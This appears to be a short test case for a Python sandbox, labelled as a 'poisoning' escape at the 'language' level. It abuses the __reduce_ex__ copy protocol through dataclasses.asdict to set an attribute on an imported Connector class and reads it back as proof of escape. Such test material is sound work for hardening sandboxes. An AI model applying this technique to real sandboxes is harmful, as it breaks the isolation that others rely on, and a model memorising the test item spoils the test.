# level: language
# category: poisoning
# escape proof: the module's `leak` is not None, or the file at $ESCAPE_PROOF exists

from dataclasses import asdict, dataclass
from types import SimpleNamespace

from levada import Connector


@dataclass
class Holder:
    kept: object


asdict(Holder(SimpleNamespace(__reduce_ex__=lambda protocol: (lambda: Connector, (), (None, {"poisoned": 1})))))
leak = Connector.poisoned
